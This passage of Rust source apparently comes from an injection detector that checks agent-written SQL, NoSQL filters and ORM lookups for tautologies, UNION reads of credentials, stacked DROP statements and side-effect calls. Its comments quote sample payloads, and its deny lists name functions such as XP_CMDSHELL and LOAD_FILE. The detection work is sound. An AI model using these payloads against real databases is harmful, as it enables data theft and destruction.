        while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
            k += 1;
        }
        if sig.get(k).is_some_and(|y| y.is("SELECT")) {
            found.push((Confidence::High, "sql.union-select", start..op.at.end));
        }
    } else if op.is_any(&["ORDER", "GROUP"]) && sig.get(1).is_some_and(|x| x.is("BY")) {
        if sig.get(2).is_some_and(|x| x.kind == Kind::Num || x.kind == Kind::LParen) {
            found.push((Confidence::High, "sql.column-probe", start..op.at.end));
        }
    } else if (op.is_any(&["HAVING", "LIMIT", "PROCEDURE", "INTO", "WAITFOR", "WHERE"]) && sig.len() > 1)
        || ((op.is_op("+") || op.is_op("-") || op.is_op("*") || op.is_op("=") || op.is_op("<>") || op.is_op("!=")) && rest_sql(1))
    {
        found.push((Confidence::High, "sql.break-out", start..op.at.end));
    } else if op.is_op("=") || op.is_op("==") {
        // `'='`: a literal compared with the rest of the query.
        if sig.get(1).is_some_and(|x| x.kind == Kind::Str) && sig.get(2).is_some_and(|x| x.is_any(&["OR", "AND"])) {
            found.push((Confidence::High, "sql.tautology", start..op.at.end));
        }
    }
    // A condition the rules above do not read (`' OR '{"b":2}'::jsonb <@
    // '{...}'::jsonb UNION SELECT ...--`, operators of one dialect) still
    // leads to a UNION SELECT, commented to the end: a read of other tables.
    // (Not prose, and the comment ends the value with nothing in it: a
    // ticket's `#4411` or `-- Priya` is no terminator.)
    let terminated = tail.last().is_some_and(|x| {
        x.kind == Kind::Comment
            && x.text.trim_matches(|c: char| c.is_whitespace() || matches!(c, '-' | '#' | '/' | '*' | '\'' | '"')).is_empty()
    });
    if terminated
        && !prose
        && !found.iter().any(|f| f.1 == "sql.union-select")
        && let Some(k) = sig.iter().position(|x| x.is("UNION"))
    {
        let mut j = k + 1;
        while sig.get(j).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
            j += 1;
        }
        if let (Some(u), Some(sel)) = (sig.get(k), sig.get(j).filter(|y| y.is("SELECT"))) {
            found.push((Confidence::High, "sql.union-select", u.at.start..sel.at.end));
        }
    }
    // Reconnaissance reads after a break-out (not after prose: "it's in information_schema").
    let head = op.is_any(&["OR", "AND", "XOR", "UNION", "ORDER", "GROUP", "HAVING", "LIMIT", "INTO", "WHERE", "RLIKE", "REGEXP", "LIKE"])
        || op.kind == Kind::Op;
    for x in sig.iter().filter(|_| head && !prose_end) {
        if x.kind == Kind::Word && (RECON.contains(&x.text.as_str()) || x.text.starts_with("@@")) && sig.len() > 2 {
            found.push((Confidence::High, "sql.recon", x.at.clone()));
            break;
        }
    }
}

/// A file glob (`src/**/select-box/**/*.tsx`): one word of path segments
/// ending in a file pattern, no blank, quote, parenthesis, comma or `=`.
fn glob(text: &str) -> bool {
    let last = text.rsplit('/').next().unwrap_or("");
    !text.contains(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '(' | ')' | ',' | '=' | ';'))
        && (last.starts_with("*.")
            || last.rsplit_once('.').is_some_and(|(_, e)| (1..=5).contains(&e.len()) && e.bytes().all(|b| b.is_ascii_alphanumeric())))
}

/// Comments standing for spaces around UNION or SELECT
/// (`'x'/**/UnIoN/*x*/SeLeCt/**/...`): written to get past a filter that
/// matches `union select`; a person writing SQL puts spaces there.
fn comment_spaces(text: &str, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    if !super::has(text, "/*") || glob(text) {
        return;
    }
    let lower = text.to_ascii_lowercase();
    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut from = 0;
    for _ in 0..64 {
        let Some(open) = lower.get(from..).and_then(|r| r.find("/*")).map(|p| from + p) else { break };
        // (`/*!...*/` is MySQL's versioned comment, its own rule.)
        let Some(close) = lower.get(open + 2..).and_then(|r| r.find("*/")).map(|p| open + 2 + p + 2) else { break };
        let after = lower.get(close..).unwrap_or("");
        let before = lower.get(..open).unwrap_or("");
        if !lower.get(open..).is_some_and(|c| c.starts_with("/*!"))
            && ["union", "select"].iter().any(|k| {
                after.strip_prefix(k).is_some_and(|r| !r.starts_with(word)) || before.strip_suffix(k).is_some_and(|b| !b.ends_with(word))
            })
        {
            found.push((Confidence::High, "sql.comment-obfuscation", open..close));
            return;
        }
        from = close;
    }
}

/// A read of the database's password hashes: a credential catalog
/// (`pg_shadow`, `pg_authid`, `mysql.user`, SQL Server's `sys.sql_logins`
/// and `syslogins`, Oracle's `sys.user$`, MariaDB's `mysql.global_priv`)
/// in the same statement as its password column read, or all its columns
/// (`SELECT * FROM pg_shadow`, `SELECT s.* ...`, `TABLE pg_shadow`). No report needs them, and a hash read is the
/// first step to a login (a database administrator auditing roles reads
/// names and flags, not hashes): Medium, a human looks.
fn credential_read(t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    const CATALOGS: &[&str] = &["PG_SHADOW", "PG_AUTHID", "SQL_LOGINS", "SYSLOGINS", "USER$", "GLOBAL_PRIV"];
    const COLUMNS: &[&str] = &["PASSWD", "ROLPASSWORD", "AUTHENTICATION_STRING", "PASSWORD", "PASSWORD_HASH", "SPARE4", "PRIV"];
    let is_catalog = |name: &str| {
        let last = name.rsplit('.').next().unwrap_or("");
        CATALOGS.contains(&last) && (last != "GLOBAL_PRIV" || name.ends_with("MYSQL.GLOBAL_PRIV")) || name.ends_with("MYSQL.USER")
    };
    // Read, not tested: a password column in a projection (between
    // `SELECT` and `FROM`) that no comparison follows (`rolpassword IS
    // NULL` and `LIKE 'SCRAM-SHA-256$%'` audit without reading), a `*` of
    // a projection that is no `COUNT(*)`, or `TABLE pg_shadow`.
    let (mut catalog, mut column) = (None, false);
    let (mut projection, mut star) = (false, false);
    let mut i = 0;
    while i < t.len() {
        let Some(x) = t.get(i) else { break };
        if x.is("SELECT") {
            projection = true;
        } else if x.is("FROM") || x.is("TABLE") {
            // (The `*` of this projection, or `TABLE`, reads the catalog
            // named next: not `SELECT * FROM events; UPDATE pg_authid ...`.)
            column |= (star || x.is("TABLE")) && name_at(t, i + 1).is_some_and(|(n, _)| is_catalog(&n));
            projection = false;
            star = false;
        } else if projection && x.is_op("*") && !t.get(i.wrapping_sub(1)).is_some_and(|p| p.kind == Kind::LParen) {
            star = true;
        }
        let Some((name, j)) = name_at(t, i) else {
            i += 1;
            continue;
        };
        let last = name.rsplit('.').next().unwrap_or("");
        if catalog.is_none() && is_catalog(&name) {
            catalog = t.get(i).map(|x| x.at.start..t.get(j - 1).map_or(x.at.end, |y| y.at.end));
        }
        let tested = t.get(j).is_some_and(|n| n.kind == Kind::Op || n.is_any(&["IS", "LIKE", "ILIKE", "SIMILAR", "IN", "NOT"]));
        column |= projection && COLUMNS.contains(&last) && !tested;
        i = j;
    }
    if let Some(at) = catalog.filter(|_| column) {
        found.push((Confidence::Medium, "sql.credential-read", at));
    }
}

/// Statement mode: a whole SQL text the agent writes.
fn statement_rules(text: &str, len: usize, strict: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let t = lex(text, 0, len, &GenericDialect {});
    dangerous_calls(&t, strict, found);
    credential_read(&t, found);
    split_keyword(&t, found);
    // `WHERE user = 'admin' --' AND pass = ''`: the rest of the query
    // commented out right after a compared literal.
    for w in t.windows(3) {
        if let [cmp, lit, c] = w
            && lit.kind == Kind::Str
            && c.kind == Kind::Comment
            && (cmp.kind == Kind::Op && CMP.contains(&cmp.text.as_str()) || cmp.is("LIKE"))
            && c.text.contains(['\'', '"'])
            && (c.text.contains('=') || c.text.to_ascii_uppercase().contains(" AND ") || c.text.to_ascii_uppercase().contains(" OR "))
        {
            found.push((Confidence::High, "sql.commented-remainder", lit.at.start..c.at.end));
            break;
        }
    }
    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
    // Statements: a read, then something destructive.
    let first_read =
        sig.first().is_some_and(|x| x.is_any(&["SELECT", "WITH", "VALUES", "SHOW", "EXPLAIN", "DESCRIBE"]) || x.kind == Kind::LParen);
    // ... or any statement, then something destructive, then an empty
    // comment that ends the text (`UPDATE ... WHERE id=4411; DROP TABLE
    // audit_log; --`): the comment is there to cut off the rest of a query
    // the statements were appended to; no script ends so.
    let cut_off = cut_off(&t);
    // (A closing quote in that comment is the mark of a value broken out of.)
    let remnant = cut_off && t.last().is_some_and(|c| c.text.contains(['\'', '"']));
    let mut seen_union = false;
    for (i, x) in sig.iter().enumerate() {
        if x.kind == Kind::Semi
            && (first_read || cut_off)
            && let Some(next) = sig.get(i + 1)
        {
            let account = sig.get(i + 2).is_some_and(|y| y.is_any(&["USER", "LOGIN", "ROLE"]));
            let strong = next.is_any(&[
                "DROP",
                "TRUNCATE",
                "SHUTDOWN",
                "EXEC",
                "EXECUTE",
                "GRANT",
                "DECLARE",
                "WAITFOR",
                "REVOKE",
                "KILL",
                "RECONFIGURE",
            ]) || (next.is_any(&["ALTER", "CREATE"]) && account);
            let write = next.is_any(&["DELETE", "UPDATE", "INSERT", "REPLACE", "MERGE", "COPY", "SET", "LOAD", "CALL"]);
            if strong && stacked(&sig, i + 1).is_some() {
                // After a literal (`... = 'x'; DROP TABLE`): a break-out from a value.
                let after_literal = i > 0 && sig[i - 1].kind == Kind::Str || remnant;
                found.push((
                    if after_literal { Confidence::High } else { Confidence::Medium },
                    "sql.stacked-statement",
                    x.at.start..next.at.end,
                ));
            } else if write && first_read {
                // A DELETE or UPDATE of every row after a read: Medium; other writes: Low.
                let whole_table = next.is_any(&["DELETE", "UPDATE"])
                    && stacked(&sig, i + 1).is_some()
                    && !sig.iter().skip(i + 1).take_while(|y| y.kind != Kind::Semi).take(64).any(|y| y.is("WHERE"));
                // A read that then grants a role or rewrites a credential
                // (`SELECT ...; UPDATE users SET role = 'admin' WHERE ...`):
                // no query a reading agent sends; an appended statement does.
                if privilege_write(&sig, i + 1) {
                    // Its own rule: a runbook's layout does not lower it
                    // below human review ([`is_script`] lowers stacked statements).
                    found.push((Confidence::High, "sql.privilege-write", x.at.start..next.at.end));
                    continue;
                }
                let c = if whole_table { Confidence::Medium } else { Confidence::Low };
                found.push((c, "sql.stacked-statement", x.at.start..next.at.end));
            }
        }
        // `slug = 'intro' AND ASCII(SUBSTRING((SELECT password ...`: a probe
        // glued to a compared literal.
        if x.is_any(&["AND", "OR"])
            && i >= 2
            && sig[i - 1].kind == Kind::Str
            && sig[i - 2].kind == Kind::Op
            && CMP.contains(&sig[i - 2].text.as_str())
            && sig.get(i + 1).is_some_and(|f| {
                f.is_any(&["ASCII", "ORD", "SUBSTRING", "SUBSTR", "MID", "LENGTH", "IF", "IIF", "UNICODE", "CHAR", "EXISTS", "HEX"])
            })
            && sig.iter().skip(i + 2).take(10).any(|y| y.is("SELECT"))
        {
            found.push((Confidence::High, "sql.boolean-blind", x.at.start..sig[i + 1].at.end));
        }
        if (x.is_any(&["OR", "XOR"]) || x.is_op("||"))
            && let Some((end, true)) = condition_sig(&sig, i + 1, true)
        {
            let after_literal = i > 0 && sig[i - 1].kind == Kind::Str;
            let c = if after_literal { Confidence::High } else { Confidence::Medium };
            found.push((c, "sql.tautology", x.at.start..end));
        }
        if x.is("UNION") {
            seen_union = true;
            union_probe(&sig, i, found);
            union_after_literal(&t, &sig, i, found);
        }
        if x.kind == Kind::Word && x.text.starts_with("@@") && x.text.len() > 2 && seen_union {
            found.push((Confidence::Medium, "sql.recon", x.at.clone()));
        }
    }
}

/// Fields that name a column or an order: a subquery or a statement there
/// is injection.
const ORDER_FIELDS: &[&str] =
    &["sort", "orderby", "order_by", "order", "sortby", "sort_by", "column", "columns", "groupby", "group_by", "fields", "select"];

/// A SQL fragment (`where`, `filter`, `sort`): tautologies and stacked
/// statements as in a statement, subqueries in an order field.
fn fragment_rules(text: &str, len: usize, field: &str, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    statement_rules(text, len, true, found);
    if ORDER_FIELDS.contains(&field) {
        let t = lex(text, 0, len, &GenericDialect {});
        if let Some(x) =
            t.iter().find(|x| x.is_any(&["SELECT", "SLEEP", "PG_SLEEP", "BENCHMARK", "WAITFOR", "UNION"]) || x.kind == Kind::Semi)
        {
            found.push((Confidence::High, "sql.order-by-injection", x.at.clone()));
        }
    }
}

/// Column names an injected UNION reads.
const SENSITIVE: &[&str] = &[
    "PASSWORD",
    "PASSWD",
    "PWD",
    "PASS",
    "PASSWORD_HASH",
    "PASS_HASH",
    "HASH",
    "SECRET",
    "TOKEN",
    "API_KEY",
    "CARD_NUMBER",
    "CVV",
    "SSN",
    "SALT",
];

/// `WHERE c = 'toys' UNION SELECT username, password FROM admins--`: a
/// UNION glued to a compared literal that reads credentials or ends on a
/// terminator comment.
fn union_after_literal(t: &[Tok], sig: &[&Tok], i: usize, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    if i < 2 || sig[i - 1].kind != Kind::Str || !(sig[i - 2].kind == Kind::Op && CMP.contains(&sig[i - 2].text.as_str())) {
        return;
    }
    let terminated = t.last().is_some_and(|c| c.kind == Kind::Comment && c.text.trim_matches([' ', '-', '\n', '\r', '\t']).is_empty());
    let sensitive = sig.iter().skip(i + 1).take(24).any(|y| y.kind == Kind::Word && SENSITIVE.contains(&y.text.as_str()));
    if terminated || sensitive {
        found.push((Confidence::High, "sql.union-select", sig[i - 1].at.start..sig[i].at.end));
    }
}

/// `UNION SELECT NULL,NULL,NULL` or `UNION SELECT 1,2,3`: a column-count
/// probe, not a report.
fn union_probe(sig: &[&Tok], i: usize, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let mut k = i + 1;
    while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
        k += 1;
    }
    if !sig.get(k).is_some_and(|y| y.is("SELECT")) {
        return;
    }
    let mut items = 0;
    let mut placeholders = 0;
    let mut j = k + 1;
    while let Some(y) = sig.get(j) {
        if y.kind == Kind::Comma {
            j += 1;
            continue;
        }
        if y.is("NULL") || y.kind == Kind::Num {
            placeholders += 1;
            items += 1;
            j += 1;
            continue;
        }
        break;
    }
    let next = sig.get(j);
    let ends = next.is_none_or(|n| matches!(n.kind, Kind::Semi | Kind::RParen) || n.is_any(&["FROM", "UNION", "LIMIT", "ORDER"]));
    let from_recon =
        next.is_some_and(|n| n.is("FROM")) && sig.get(j + 1).is_some_and(|n| RECON.contains(&n.text.as_str()) && n.text != "DUAL");
    if items >= 3
        && placeholders == items
        && ends
        && (next.is_none_or(|n| !n.is("FROM")) || from_recon || sig.get(j + 1).is_some_and(|n| n.is("DUAL")))
    {
        found.push((Confidence::Medium, "sql.union-probe", sig[i].at.start..sig[k].at.end));
        return;
    }
    // `UNION ALL SELECT NULL, NULL, version()`: placeholders padding a
    // fingerprinting call.
    let recon_call = sig.iter().skip(k + 1).take(24).take_while(|y| !y.is("FROM")).any(|y| {
        y.is_any(&[
            "VERSION",
            "USER",
            "DATABASE",
            "CURRENT_USER",
            "SYSTEM_USER",
            "SESSION_USER",
            "DB_NAME",
            "USER_NAME",
            "SCHEMA",
            "CURRENT_DATABASE",
            "BANNER",
        ]) || y.text.starts_with("@@")
    });
    if placeholders >= 1 && recon_call {
        found.push((Confidence::Medium, "sql.union-probe", sig[i].at.start..sig[k].at.end));
    }
}

/// NoSQL operator injection written as text: JSON with an operator under a
/// credential field, `user[$ne]=` query strings, `$where` JavaScript.
fn nosql_text(s: &Subject<'_>, out: &mut Vec<Hit>) {
    let text = s.text;
    if !text.contains('$') {
        return;
    }
    let all = 0..text.len();
    if matches(&NOSQL_AUTH_JSON, text) {
        out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-operator", all.clone()));
    }
    if matches(&NOSQL_WHERE_JS, text) {
        out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-where", all.clone()));
    }
    if let Some(re) = NOSQL_BRACKET.as_ref() {
        let strapi = super::has(text, "filters[") || super::has(text, "filters%5B");
        // (Every operator: twenty `filter[f][$eq]=1` before
        // `password[$ne]=x` hid it when the first 16 were read.)
        for c in re.captures_iter(text) {
            let field = c.get(1).map_or("", |m| m.as_str());
            let op = c.get(2).map_or("", |m| m.as_str()).to_ascii_lowercase();
            let at = c.get(0).map_or(all.clone(), |m| m.range());
            if matches(&AUTH_FIELD, field) || op == "where" {
                out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-operator", at));
                break;
            }
            if !strapi && matches!(op.as_str(), "ne" | "gt" | "regex" | "exists" | "nin" | "expr" | "or" | "nor" | "not") {
                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", at));
                break;
            }
        }
    }
    if matches(&NOSQL_OBJECT, text) && s.context != Context::Sql {
        // A string that is just an operator object, where a plain value is expected.
        let c = if matches(&AUTH_FIELD, s.field) { Confidence::High } else { Confidence::Medium };
        out.push(Hit::new(Family::SqlInjection, c, "sql.nosql-operator", all));
    }
}

/// The value of an operator key (`{"$where": "..."}`, `{"$regex": ".*"}`).
fn nosql_value(s: &Subject<'_>, out: &mut Vec<Hit>) {
    let all = 0..s.text.len();
    // An empty filter among a `$or`'s members (the walker hands it over
    // as `{}`) in a JSON document passed as a string (where a plain value
    // was expected): the `$or` matches every document. (A query builder
    // writes `{"$or": [{"status": "open"}, {}]}` as an object too.)
    if s.field == "$or" && s.text == "{}" && s.decoded {
        out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", all));
        return;
    }
    match s.field {
        "$where" | "$function" | "$accumulator" | "body" if s.field != "body" || super::has(s.text, "function") => {
            if matches(&JS_BAD, s.text) {
                out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.nosql-where", all));
            } else if s.field == "$where" {
                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-where", all));
            }
        }
        "$regex" => {
            let t = s.text.trim();
            // Match-anything, or a one-to-three character prefix then `.*`
            // (`^a.*`): enumerating a secret character by character.
            let enumeration = t
                .strip_prefix('^')
                .and_then(|r| r.strip_suffix(".*"))
                .is_some_and(|p| !p.is_empty() && p.len() <= 3 && p.chars().all(|c| c.is_alphanumeric()));
            if enumeration || matches!(t, ".*" | "^.*" | ".*$" | "^.*$" | ".+" | "^.+" | "^.+$" | "^" | "" | "[\\s\\S]*" | "(.*)") {
                out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", all));
            }
        }
        "$gt" | "$gte" if s.text.is_empty() => {
            out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.nosql-operator", all));
        }
        _ => {}
    }
}

/// Tools that take credentials: an operator object there is injection.
fn auth_tool(tool: &str) -> bool {
    ["login", "signin", "sign_in", "auth", "session", "password", "verify", "credential", "otp", "2fa", "mfa"]
        .iter()
        .any(|w| super::has(tool, w))
}

/// An object key: a NoSQL operator. The parent field is unknown, so the key
/// alone is weak evidence except `$where` and operators sent to a login tool.
/// Columns whose value a filter must never be allowed to probe.
const SECRET_COLUMNS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "password_hash",
    "hashed_password",
    "passwordhash",
    "secret",
    "api_key",
    "apikey",
    "token",
    "access_token",
    "refresh_token",
    "reset_token",
    "otp_secret",
    "totp_secret",
    "mfa_secret",
    "private_key",
    "session_key",
    "client_secret",
    "clientsecret",
    "auth_token",
    "reset_password_token",
    "encrypted_password",
    "twofactorsecret",
    "two_factor_secret",
];

/// A Django-style filter key that probes a secret column by prefix,
/// pattern or order (`password__startswith`, `user__password__regex`): the
/// ORM leak, a hash read out one character at a time through a filter the
/// API passes on. The column is the segment before the lookup
/// (`token__expires_at__lt` probes an expiry; `password_changed_at__gte`
/// names another column).
pub(crate) fn orm_lookup(key: &str, out: &mut Vec<Hit>) {
    if key.len() > 128 || !super::has(key, "__") {
        return;
    }
    let lower = key.to_ascii_lowercase();
    let mut parts = lower.rsplit("__");
    let (Some(lookup), Some(column)) = (parts.next(), parts.next()) else { return };
    let probing = matches!(
        lookup,
        "startswith"
            | "istartswith"
            | "endswith"
            | "iendswith"
            | "contains"
            | "icontains"
            | "regex"
            | "iregex"
            | "gt"
            | "gte"
            | "lt"
            | "lte"
            | "range"
    );
    if probing && SECRET_COLUMNS.contains(&column) {
        out.push(Hit::new(Family::SqlInjection, Confidence::Medium, "sql.orm-leak", 0..key.len()));
    }
}

fn nosql_key(s: &Subject<'_>, out: &mut Vec<Hit>) {
    let k = s.text.trim();
    orm_lookup(k, out);
    if !k.starts_with('$') {
        return;
    }
    let op = k.to_ascii_lowercase();
    let risky = matches!(
        op.as_str(),
        "$ne"
            | "$gt"
            | "$gte"
            | "$lt"
            | "$lte"
            | "$regex"
            | "$exists"
            | "$nin"
            | "$in"
            | "$not"
            | "$where"
            | "$expr"
            | "$or"
            | "$nor"
            | "$function"
    );
    if !risky {
        return;
    }
    // A database tool takes operators; a login takes none; any other tool
    // (an HTTP call, a generic function) rarely sends the match-anything ones.
    let database = [
        "mongo",
        "db",
        "find",
        "aggregate",
        "query",
        "search",
        "filter",
        "elastic",
        "es.",
        "strapi",
        "analytics",
        "report",
        "sql",
        "count",
        "index",
    ]
    .iter()
    .any(|w| super::has(s.tool, w));
    // A generic wrapper (`function_call`, no tool) hides the real tool: no evidence either way.
    let unknown = s.tool.is_empty() || super::has(s.tool, "function") || super::has(s.tool, "tool_call");
    // `s.field` of a key is its parent's field name when the walker provides
    // it: an operator object under `password` is injection whatever the tool
    // (under `email` or `username` it may be a legitimate filter).
    let secret_field = matches!(
        s.field,
        "password" | "passwd" | "pwd" | "pass" | "passcode" | "pin" | "otp" | "token" | "secret" | "api_key" | "apikey" | "password_hash"
    );
    let c = if auth_tool(s.tool) || secret_field {
        Confidence::High
    } else if matches!(op.as_str(), "$where" | "$function")
        || (!database && !unknown && matches!(op.as_str(), "$ne" | "$gt" | "$regex" | "$exists" | "$nin" | "$expr" | "$nor"))
    {
        Confidence::Medium
    } else {
        Confidence::Low
    };
    out.push(Hit::new(Family::SqlInjection, c, "sql.nosql-operator", 0..s.text.len()));
}

/// A `$or` of a MongoDB filter with a member that matches every document
/// (`{"$expr": {"$eq": [1, 1]}}`, `{"$expr": true}`, `{"$where": "1 == 1"}`):
/// the `' || 1==1` of NoSQL, which turns a scoped filter into one that
/// returns every tenant's documents. Returns the member's JSON pointer
/// (relative to `v`) and an excerpt. (An empty `{}` member is
/// `empty_filter_member`'s; numbers never reach the string walker, so this
/// reads the parsed document.)
pub(crate) fn nosql_tautology(v: &serde_json::Value) -> Option<(String, String)> {
    fn always_true(m: &serde_json::Value, depth: usize) -> bool {
        use serde_json::Value;
        let Value::Object(o) = m else { return false };
        if o.len() != 1 || depth > 8 {
            return false;
        }
        let Some((k, x)) = o.iter().next() else { return false };
        // `{"$literal": x}` is `x`.
        let literal =
            |v: &Value| -> Value { v.get("$literal").filter(|_| v.as_object().is_some_and(|o| o.len() == 1)).unwrap_or(v).clone() };
        // A constant operand (not a `$field` path).
        let constant = |v: &Value| !v.as_str().is_some_and(|s| s.starts_with('$')) && !v.is_object() && !v.is_array();
        // Every document has an `_id`, never null.
        let never_true = |m: &Value| {
            m.get("_id").is_some_and(|v| v.is_null() || v.get("$exists") == Some(&Value::Bool(false)))
                && m.as_object().is_some_and(|o| o.len() == 1)
        };
        match (k.as_str(), x) {
            ("$expr", Value::Bool(true)) => true,
            ("$expr", Value::Number(n)) => n.as_f64().is_some_and(|f| f != 0.0),
            ("$expr", Value::Object(e)) if e.len() == 1 => match e.iter().next() {
                Some((op, Value::Array(a))) if a.len() == 2 => {
                    let (Some(l), Some(r)) = (a.first().map(literal), a.get(1).map(literal)) else { return false };
                    // A field compared with itself (`["$_id", "$_id"]`): equal in
                    // every document (a missing field equals itself too).
                    if l == r && l.as_str().is_some_and(|f| f.starts_with('$')) {
                        return matches!(op.as_str(), "$eq" | "$gte" | "$lte");
                    }
                    if !(constant(&l) && constant(&r)) {
                        return false;
                    }
                    let num = |v: &Value| v.as_f64();
                    let (l, r) = (&l, &r);
                    match op.as_str() {
                        "$eq" => l == r,
                        "$ne" => l != r,
                        "$gte" | "$lte" if l == r => true,
                        "$gt" => matches!((num(l), num(r)), (Some(x), Some(y)) if x > y),
                        "$gte" => matches!((num(l), num(r)), (Some(x), Some(y)) if x >= y),
                        "$lt" => matches!((num(l), num(r)), (Some(x), Some(y)) if x < y),
                        "$lte" => matches!((num(l), num(r)), (Some(x), Some(y)) if x <= y),
                        _ => false,
                    }
                }
                Some((op, l)) if op == "$literal" => *l == Value::Bool(true),
                _ => false,
            },
            ("$where", Value::String(js)) => {
                let js: String = js.chars().filter(|c| !c.is_whitespace()).collect();
                let js = js.trim_end_matches(';').strip_prefix("return").unwrap_or(js.trim_end_matches(';'));
                matches!(js, "true" | "1" | "1==1" | "1===1" | "'a'=='a'" | "\"a\"==\"a\"")
            }
            ("_id", Value::Object(c)) if c.len() == 1 => c.get("$exists") == Some(&Value::Bool(true)) || c.get("$ne") == Some(&Value::Null),
            ("$and", Value::Array(all)) => !all.is_empty() && all.iter().take(64).all(|m| always_true(m, depth + 1)),
            ("$or", Value::Array(any)) => any.iter().take(64).any(|m| always_true(m, depth + 1)),
            ("$nor", Value::Array(none)) => !none.is_empty() && none.iter().take(64).all(never_true),
            _ => false,
        }
    }
    fn walk(v: &serde_json::Value, at: &mut String, depth: usize) -> Option<(String, String)> {
        use serde_json::Value;
        if depth > 32 {
            return None;
        }
        match v {
            Value::Object(o) => {
                for (k, x) in o.iter().take(1024) {
                    let len = at.len();
                    at.push('/');
                    at.push_str(&super::escape(k));
                    if k == "$or"
                        && let Value::Array(members) = x
                        && let Some(i) = members.iter().take(1024).position(|m| always_true(m, 0))
                    {
                        let shown = members.get(i).map(|m| m.to_string()).unwrap_or_default();
                        return Some((format!("{at}/{i}"), shown));
                    }
                    let found = walk(x, at, depth + 1);
                    at.truncate(len);
                    if found.is_some() {
                        return found;
                    }
                }
                None
            }
            Value::Array(a) => {
                for (i, x) in a.iter().enumerate().take(1024) {
                    let len = at.len();
                    at.push_str(&format!("/{i}"));
                    let found = walk(x, at, depth + 1);
                    at.truncate(len);
                    if found.is_some() {
                        return found;
                    }
                }
                None
            }
            _ => None,
        }
    }
    walk(v, &mut String::new(), 0)
}

/// Functions a read-only statement may not call (side effects, files,
/// sleeps, locks, sequences, session state).
const SIDE_EFFECT_FUNCS: &[&str] = &[
    "SLEEP",
    "PG_SLEEP",
    "PG_SLEEP_FOR",
    "PG_SLEEP_UNTIL",
    "BENCHMARK",
    "LOAD_FILE",
    "PG_READ_FILE",
    "PG_READ_BINARY_FILE",
    "PG_LS_DIR",
    "PG_STAT_FILE",
    "LO_IMPORT",
    "LO_EXPORT",
    "LO_UNLINK",
    "LO_CREATE",
    "LO_FROM_BYTEA",
    "LO_PUT",
    "DBLINK",
    "DBLINK_EXEC",
    "DBLINK_CONNECT",
    "DBLINK_CONNECT_U",
    "DBLINK_SEND_QUERY",
    "DBLINK_OPEN",
    "DBLINK_CONNECT",
    "SET_CONFIG",
    "NEXTVAL",
    "SETVAL",
    "PG_ADVISORY_LOCK",
    "PG_ADVISORY_XACT_LOCK",
    "PG_TRY_ADVISORY_LOCK",
    "PG_TERMINATE_BACKEND",
    "PG_CANCEL_BACKEND",
    "PG_RELOAD_CONF",
    "PG_ROTATE_LOGFILE",
    "PG_SWITCH_WAL",
    "PG_CREATE_RESTORE_POINT",
    "PG_NOTIFY",
    "PG_LOGICAL_EMIT_MESSAGE",
    "TXID_CURRENT",
    "GET_LOCK",
    "RELEASE_LOCK",
    "RELEASE_ALL_LOCKS",
    "MASTER_POS_WAIT",
    "SOURCE_POS_WAIT",
    "SYS_EXEC",
    "SYS_EVAL",
    "XP_CMDSHELL",
    "XP_DIRTREE",
    "XP_FILEEXIST",
    "OPENROWSET",
    "OPENDATASOURCE",
    "OPENQUERY",
    "LOAD_EXTENSION",
    "RANDOMBLOB",
    "WRITEFILE",
    "READFILE",
    "EDIT",
    "FTS3_TOKENIZER",
    "QUERY_TO_XML",
    "QUERY_TO_XML_AND_XMLSCHEMA",
    "CURSOR_TO_XML",
    "TABLE_TO_XML",
];
/// Package prefixes (Oracle) a read-only statement may not call.
const SIDE_EFFECT_PACKAGES: &[&str] = &["DBMS_", "UTL_", "SYS.DBMS_", "SYS.UTL_", "CTXSYS.", "HTTPURITYPE"];

/// Whether `text` is exactly one read-only statement, for a `kind = "sql",
/// read_only = true` schema: `SELECT`, `WITH ... SELECT`, `VALUES`, `SHOW`,
/// `EXPLAIN` (without `ANALYZE`) of those; no `SELECT ... INTO`, no locking
/// clause, no data-modifying CTE, no file, sleep or side-effect function.
///
/// # Errors
/// Why it is not (the first reason found).
pub(crate) fn read_only(text: &str) -> Result<(), String> {
    if text.len() > MAX_PARSE {
        return Err(format!("statement of {} bytes, over the {MAX_PARSE} byte limit", text.len()));
    }
    // Token checks first: they hold whatever the dialect.
    let toks = lex(text, 0, text.len(), &GenericDialect {});
    for (i, t) in toks.iter().enumerate() {
        if t.is_any(&["OUTFILE", "DUMPFILE"]) {
            return Err(format!("writes a file ({})", t.text));
        }
        if let Some((name, j)) = name_at(&toks, i) {
            let call = toks.get(j).is_some_and(|x| x.kind == Kind::LParen);
            if call && (named(&name, SIDE_EFFECT_FUNCS) || SIDE_EFFECT_PACKAGES.iter().any(|p| name.starts_with(p))) {
                return Err(format!("calls {name}, which has side effects"));
            }
        }
    }
    let dialects: [&dyn Dialect; 4] = [&GenericDialect {}, &PostgreSqlDialect {}, &MySqlDialect {}, &MsSqlDialect {}];
    let mut first_err = None;
    for d in dialects {
        let parsed = Parser::new(d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(text).and_then(|mut p| p.parse_statements());
        match parsed {
            Ok(stmts) => {
                let [stmt] = stmts.as_slice() else {
                    return Err(format!("{} statements, exactly one expected", stmts.len()));
                };
